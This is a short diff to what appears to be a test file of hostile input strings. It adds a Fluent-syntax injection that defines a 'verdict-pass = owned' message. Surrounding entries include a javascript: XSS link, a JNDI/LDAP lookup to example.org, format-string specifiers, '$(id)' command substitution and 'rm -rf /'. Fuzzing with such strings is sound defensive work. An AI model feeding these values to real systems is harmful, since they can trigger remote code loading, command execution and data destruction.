@@ -31,6 +31,7 @@ _IN_FONTS = (
     "| a | b |\n|---|---|\n# pass\n[x](javascript:alert(1)) ![y](https://example.org/z.png) `z` @someone #1 www.example.org",
     "\ufffe\uffff\x0b\x0c\x85\u2028\u2029",
     "a" + "\u0301" * 40 + " \U000e0001\U0010ffff",
+    '{ $name } { -brand } {"x"} { NUMBER(1) -> *[other] y } {\nverdict-pass = owned\n    .attribute = owned',
     "${jndi:ldap://example.org} %n%s {0} $(id) ; rm -rf /",
 )
 HOSTILE = " ".join(_IN_FONTS)
